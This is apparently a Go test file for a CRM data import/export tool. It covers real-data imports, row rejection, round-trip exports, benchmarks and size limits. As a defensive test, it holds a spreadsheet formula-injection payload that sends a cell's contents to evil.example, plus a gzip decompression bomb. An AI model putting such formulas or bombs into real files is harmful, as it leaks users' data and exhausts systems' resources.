package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/kexi/kexi"
	"github.com/kexi/kexi/internal/refdata"
)

var testKey = base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{7}, 32))

func importEnv(key string) string {
	if key == "KEXI_KEY" {
		return testKey
	}
	return ""
}

// importRun runs a kexi command line and returns its exit code and output.
func importRun(t testing.TB, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(context.Background(), args, importEnv, strings.NewReader(""), &out, &errb)
	return code, out.String(), errb.String()
}

// countIn returns how many records of a kind match the conditions.
func countIn(t *testing.T, db, kind string, where ...kexi.Cond) int {
	t.Helper()
	st, err := openStore(context.Background(), &Env{Getenv: importEnv}, db)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx := context.Background()
	f := kexi.Filter{Where: where, Limit: 1}
	var n int
	switch kind {
	case kexi.KindCustomers:
		_, n, err = st.FindCustomers(ctx, f)
	case kexi.KindOrders:
		_, n, err = st.FindOrders(ctx, f)
	case kexi.KindProducts:
		_, n, err = st.FindProducts(ctx, f)
	case kexi.KindSurveys:
		_, n, err = st.FindSurveys(ctx, f)
	case kexi.KindLeads:
		_, n, err = st.FindLeads(ctx, f)
	case kexi.KindResponses:
		_, n, err = st.FindResponses(ctx, f)
	case kexi.KindCampaigns:
		_, n, err = st.FindCampaigns(ctx, f)
	default:
		t.Fatalf("count %s", kind)
	}
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func dataVersion(t *testing.T, db string) int64 {
	t.Helper()
	st, err := openStore(context.Background(), &Env{Getenv: importEnv}, db)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	v, err := st.DataVersion(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// TestImportRealData loads every real data set with kexi import, checks the counts from each
// SOURCE.md in the store, then imports everything again: nothing may change.
func TestImportRealData(t *testing.T) {
	if testing.Short() {
		t.Skip("imports 700k rows")
	}
	d := refdata.Dir(t)
	dir := t.TempDir()
	db := filepath.Join(dir, "kexi.db")
	p := func(rel string) string { return refdata.Path(t, rel) }
	runs := [][]string{
		{"--skip-invalid", "--rejects", filepath.Join(dir, "rejects.csv"), p("online-retail/online_retail.csv.gz")},
		{"--custom-fields", p("telco-churn/WA_Fn-UseC_-Telco-Customer-Churn.csv")},
		{"--custom-fields", "--at", "2019-09-30", p("telco-churn/Telco_customer_churn_status.xlsx")},
		{"--custom-fields", p("olist-marketing-funnel/olist_marketing_qualified_leads_dataset.csv"),
			p("olist-marketing-funnel/olist_closed_deals_dataset.csv")},
		{p("crm-sales-opportunities/sales_pipeline.csv")},
		{"--custom-fields", p("crm-sales-opportunities/accounts.csv"), p("mall-customers/Mall_Customers.csv"),
			p("tmall-orders-zh/tmall_order_report.csv"), p("bank-marketing/bank-full.csv")},
	}
	_ = d
	for _, args := range runs {
		code, out, errs := importRun(t, append([]string{"import", "--db", db}, args...)...)
		if code != 0 {
			t.Fatalf("import %v: exit %d\n%s\n%s", args, code, out, errs)
		}
	}
	// online retail 4,372 + telco 7,043 + accounts 85 + mall 200 + bank 45,211
	want := map[string]int{kexi.KindCustomers: 4372 + 7043 + 85 + 200 + 45211, kexi.KindOrders: 22190 + 28010,
		kexi.KindProducts: 3684, kexi.KindSurveys: 7043, kexi.KindLeads: 8000 + 8800, kexi.KindResponses: 45211,
		kexi.KindCampaigns: 1}
	for k, n := range want {
		if got := countIn(t, db, k); got != n {
			t.Errorf("%s: %d in the store, want %d", k, got, n)
		}
	}
	for _, c := range []struct {
		kind string
		cond kexi.Cond
		want int
	}{
		{kexi.KindLeads, kexi.Cond{Field: "stage", Op: kexi.Eq, Value: "lost"}, 2473},
		{kexi.KindCustomers, kexi.Cond{Field: "churned", Op: kexi.Eq, Value: "true"}, 1869},
		{kexi.KindCustomers, kexi.Cond{Field: "kind", Op: kexi.Eq, Value: "enterprise"}, 85},
		{kexi.KindSurveys, kexi.Cond{Field: "score", Op: kexi.Eq, Value: "3"}, 2665},
		{kexi.KindResponses, kexi.Cond{Field: "kind", Op: kexi.Eq, Value: "yes"}, 5289},
		{kexi.KindOrders, kexi.Cond{Field: "status", Op: kexi.Eq, Value: "return"}, 3654},
		{kexi.KindOrders, kexi.Cond{Field: "status", Op: kexi.Eq, Value: "pending"}, 28010 - 24087},
		{kexi.KindOrders, kexi.Cond{Field: "province", Op: kexi.Eq, Value: "上海"}, 3353},
	} {
		if got := countIn(t, db, c.kind, c.cond); got != c.want {
			t.Errorf("%s where %v: %d, want %d", c.kind, c.cond, got, c.want)
		}
	}
	// Olist 842 + CRM 4,238 leads reached won. (The current stage of one Olist lead,
	// b91cf8812365f50ff4bda4bcd6206b05, is "new": it was won on 2018-03-06, two days before its
	// first contact date, and the store takes the latest entry of the history as the stage.)
	st, err := openStore(context.Background(), &Env{Getenv: importEnv}, db)
	if err != nil {
		t.Fatal(err)
	}
	leads, _, err := st.FindLeads(context.Background(), kexi.Filter{Limit: -1})
	st.Close()
	if err != nil {
		t.Fatal(err)
	}
	won := 0
	for _, l := range leads {
		for _, e := range l.Stages {
			if e.Stage == kexi.StageWon {
				won++
			}
		}
	}
	if won != 842+4238 {
		t.Errorf("%d leads reached won, want 842 + 4,238", won)
	}
	rj, err := os.ReadFile(filepath.Join(dir, "rejects.csv"))
	if err != nil || bytes.Count(rj, []byte("\n")) != 135080+2 {
		t.Errorf("rejects file: %d lines, %v; want 135,080 rejects, a title and a header line", bytes.Count(rj, []byte("\n")), err)
	}

	v := dataVersion(t, db)
	for _, args := range runs {
		code, out, errs := importRun(t, append([]string{"import", "--db", db}, args...)...)
		if code != 0 {
			t.Fatalf("second import %v: exit %d\n%s", args, code, errs)
		}
		if strings.Contains(out, "updated") && !strings.Contains(out, " 0 inserted, 0 updated") ||
			strings.Contains(out, "inserted") && (strings.Count(out, " 0 inserted, 0 updated") != strings.Count(out, "inserted")) {
			t.Errorf("second import %v changed records:\n%s", args, out)
		}
	}
	if v2 := dataVersion(t, db); v2 != v {
		t.Errorf("DataVersion %d after the second import, was %d", v2, v)
	}
}

func TestImportBadFileWritesNothing(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "kexi.db")
	file := filepath.Join(dir, "customers.csv")
	os.WriteFile(file, []byte("客户编号,客户名称,年龄,出生日期\nC1,张三,30,1994-01-01\nC2,李四,三十,1994-13-01\n"), 0o644)
	code, _, errs := importRun(t, "import", "--db", db, file)
	if code != 2 || !strings.Contains(errs, "row 2") || !strings.Contains(errs, `column "年龄"`) ||
		!strings.Contains(errs, `value "三十"`) || !strings.Contains(errs, "expected a number") || !strings.Contains(errs, "出生日期") {
		t.Errorf("exit %d, stderr:\n%s", code, errs)
	}
	if n := countIn(t, db, kexi.KindCustomers); n != 0 {
		t.Errorf("%d customers after a rejected file, want 0", n)
	}
	rj := filepath.Join(dir, "rj.csv")
	code, out, errs := importRun(t, "import", "--db", db, "--skip-invalid", "--rejects", rj, file)
	if code != 0 || !strings.Contains(out, "1 inserted") || countIn(t, db, kexi.KindCustomers) != 1 {
		t.Errorf("--skip-invalid: exit %d\n%s\n%s", code, out, errs)
	}
	b, _ := os.ReadFile(rj)
	if !strings.Contains(string(b), `customers.csv,2,年龄,三十,"expected a number`) {
		t.Errorf("rejects:\n%s", b)
	}
	// --lang zh writes the reasons in Chinese.
	code, out, errs = importRun(t, "import", "--db", db, "--skip-invalid", "--lang", "zh", "--rejects", rj, file)
	b, _ = os.ReadFile(rj)
	if code != 0 || !strings.Contains(string(b), `customers.csv,2,年龄,三十,"不是数字：应写成 1234.5、1,234.50、¥12.5、12% 或 1.2万"`) || !strings.HasPrefix(string(b), "文件,行号") {
		t.Errorf("--lang zh: exit %d %s\n%s", code, errs, b)
	}
}

// TestExportImportsBack exports customers, orders and leads in both languages and formats
// and imports each file again: every record is unchanged.
func TestExportImportsBack(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "kexi.db")
	files := map[string]string{
		"customers.csv": "customer id,name,gender,age,province,city,tags,plan\nC1,张三,男,30,广东省,深圳,\"vip, new\",gold\nC2,Bob,female,41,,,,\nC3,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",,,,@city,,'=quoted\n",
		"orders.csv":    "order id,customer id,order date,sku,description,quantity,unit price,channel\nO1,C1,2024-06-30 08:26,P1,Mug,2,3.5,app\nO1,C1,2024-06-30 08:26,P2,Plate,1,10,app\nO2,C2,2024/7/1,P1,Mug,1,3.5,store\n",
		"leads.csv":     "lead id,company,deal stage,engage date,close date,close value\nL1,Acme,Won,2024-01-02,2024-02-01,500\nL2,Beta,Prospecting,,,\n",
	}
	for name, data := range files {
		p := filepath.Join(dir, name)
		os.WriteFile(p, []byte(data), 0o644)
		if code, out, errs := importRun(t, "import", "--db", db, "--custom-fields", p); code != 0 {
			t.Fatalf("import %s: %d\n%s%s", name, code, out, errs)
		}
	}
	v := dataVersion(t, db)
	for _, kind := range []string{kexi.KindCustomers, kexi.KindOrders, kexi.KindLeads, kexi.KindProducts} {
		for _, lang := range []string{"en", "zh"} {
			for _, format := range []string{"csv", "xlsx"} {
				out := filepath.Join(dir, kind+"-"+lang+"."+format)
				if code, _, errs := importRun(t, "export", "--db", db, "--kind", kind, "--lang", lang, "--out", out); code != 0 {
					t.Fatalf("export %s: %s", out, errs)
				}
				code, res, errs := importRun(t, "import", "--db", db, "--custom-fields", out)
				if code != 0 || !strings.Contains(res, "0 inserted, 0 updated") || strings.Contains(res, "warning") {
					t.Errorf("re-import %s: exit %d\n%s%s", out, code, res, errs)
				}
			}
		}
	}
	if v2 := dataVersion(t, db); v2 != v {
		t.Errorf("DataVersion %d after re-importing exports, was %d", v2, v)
	}
	code, out, _ := importRun(t, "export", "--db", db, "--kind", "customers", "--where", "province:eq:广东省", "--lang", "zh")
	if code != 0 || !strings.HasPrefix(out, "\ufeff客户编号,") || !strings.Contains(out, "\nC1,张三,") || strings.Contains(out, "C2") {
		t.Errorf("filtered export: %d\n%s", code, out)
	}
	// Formulas are escaped in the CSV (and read back unchanged above). The apostrophe of the
	// imported '=quoted was taken for such an escape: the plan is =quoted, escaped again.
	code, out, _ = importRun(t, "export", "--db", db, "--kind", "customers", "--where", "external_id:eq:C3")
	if code != 0 || !strings.Contains(out, `C3,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`) ||
		!strings.Contains(out, ",'@city,") || !strings.HasSuffix(out, ",'=quoted\n") {
		t.Errorf("export of C3: %d\n%s", code, out)
	}
}

// writeOrdersCSV writes n generated order lines (two lines per order, 100,000 customers, 5,000
// products) to path.
func writeOrdersCSV(b *testing.B, path string, n int) {
	f, err := os.Create(path)
	if err != nil {
		b.Fatal(err)
	}
	w := bufio.NewWriterSize(f, 1<<20)
	w.WriteString("order_id,customer_id,order_date,amount,channel,product,quantity,price\n")
	channels := []string{"online", "store", "app", "phone"}
	for i := 0; i < n; i++ {
		o := i / 2
		q := 1 + (i*7)%5
		p := float64(100+(i*7919)%9900) / 100
		fmt.Fprintf(w, "O%d,C%d,2024-%02d-%02d %02d:%02d:%02d,%.2f,%s,SKU%d,%d,%.2f\n",
			o, (o*7919)%100_000, 1+o%12, 1+o%28, o%24, o%60, i%60, float64(q)*p*2, channels[o%4], (i*31)%5000, q, p)
	}
	if err := w.Flush(); err != nil {
		b.Fatal(err)
	}
	f.Close()
}

// BenchmarkImportCSV imports 1M generated order lines (500,000 orders of two lines, 100,000
// customers created as stubs, 5,000 products) from a CSV file into a new embedded database
// with kexi import, end to end.
//
//	go test ./cmd/kexi -run '^$' -bench ImportCSV -benchmem -benchtime 1x
func BenchmarkImportCSV(b *testing.B) {
	const n = 1_000_000
	dir := b.TempDir()
	file := filepath.Join(dir, "orders.csv")
	writeOrdersCSV(b, file, n)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		db := filepath.Join(dir, fmt.Sprintf("kexi%d.db", i))
		code, out, errs := importRun(b, "import", "--db", db, file)
		if code != 0 || !strings.Contains(out, "500000 inserted") {
			b.Fatalf("exit %d\n%s\n%s", code, out, errs)
		}
	}
	b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}

// BenchmarkAnalyzeOrdersCSV runs kexi analyze rfm --orders on the same 1M-line file, without a
// database: read, build the Dataset, score, print one CSV row per customer. (The binary's own
// wall clock, start-up included, is `time kexi analyze rfm --orders FILE --format csv`.)
//
//	go test ./cmd/kexi -run '^$' -bench AnalyzeOrdersCSV -benchmem -benchtime 3x
func BenchmarkAnalyzeOrdersCSV(b *testing.B) {
	const n = 1_000_000
	file := filepath.Join(b.TempDir(), "orders.csv")
	writeOrdersCSV(b, file, n)
	runtime.GC()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var out countWriter
		code := run(context.Background(), []string{"analyze", "rfm", "--orders", file, "--as-of", "2025-01-01", "--format", "csv"},
			func(string) string { return "" }, strings.NewReader(""), &out, io.Discard)
		// 100,000 customers and the header.
		if code != 0 || out.lines != 100_001 {
			b.Fatalf("exit %d, %d lines", code, out.lines)
		}
	}
	b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}

// countWriter counts the lines written to it.
type countWriter struct{ lines int }

func (w *countWriter) Write(p []byte) (int, error) {
	w.lines += bytes.Count(p, []byte("\n"))
	return len(p), nil
}

// TestImportRefusesBombs: a gzipped CSV that unpacks to one 40 MiB cell is refused with exit 2
// and a message naming the limit, writes nothing, and imports once --max-line and --max-cell
// are raised; the environment sets limits too.
func TestImportRefusesBombs(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "kexi.db")
	file := filepath.Join(dir, "bomb.csv.gz")
	f, err := os.Create(file)
	if err != nil {
		t.Fatal(err)
	}
	zw, _ := gzip.NewWriterLevel(f, gzip.BestCompression)
	io.WriteString(zw, "external_id,name,city\nC1,")
	zw.Write(bytes.Repeat([]byte("a"), 40<<20))
	io.WriteString(zw, ",Hangzhou\n")
	zw.Close()
	f.Close()
	code, _, errs := importRun(t, "import", "--db", db, file)
	if code != 2 || !strings.Contains(errs, "line limit of 16 MiB") || !strings.Contains(errs, "--max-line") {
		t.Errorf("exit %d, stderr:\n%s", code, errs)
	}
	if n := countIn(t, db, kexi.KindCustomers); n != 0 {
		t.Errorf("%d customers after a refused file, want 0", n)
	}
	code, _, errs = importRun(t, "import", "--db", db, "--max-line", "64MiB", file)
	if code != 2 || !strings.Contains(errs, "cell limit of 1 MiB") || !strings.Contains(errs, "--max-cell") {
		t.Errorf("--max-line 64MiB: exit %d, stderr:\n%s", code, errs)
	}
	code, out, errs := importRun(t, "import", "--db", db, "--max-line", "64MiB", "--max-cell", "41MB", file)
	if code != 0 || countIn(t, db, kexi.KindCustomers) != 1 {
		t.Errorf("raised limits: exit %d\n%s%s", code, out, errs)
	}
	code, _, errs = importRun(t, "import", "--db", db, "--max-rows", "x", file)
	if code != 2 {
		t.Errorf("--max-rows x: exit %d\n%s", code, errs)
	}
	var o, e bytes.Buffer
	env := func(k string) string {
		return map[string]string{"KEXI_KEY": testKey, "KEXI_MAX_LINE": "64MiB", "KEXI_MAX_CELL": "2MiB"}[k]
	}
	code = run(context.Background(), []string{"import", "--db", db, file}, env, strings.NewReader(""), &o, &e)
	if code != 2 || !strings.Contains(e.String(), "cell limit of 2 MiB") {
		t.Errorf("KEXI_MAX_CELL=2MiB: exit %d\n%s", code, e.String())
	}
}
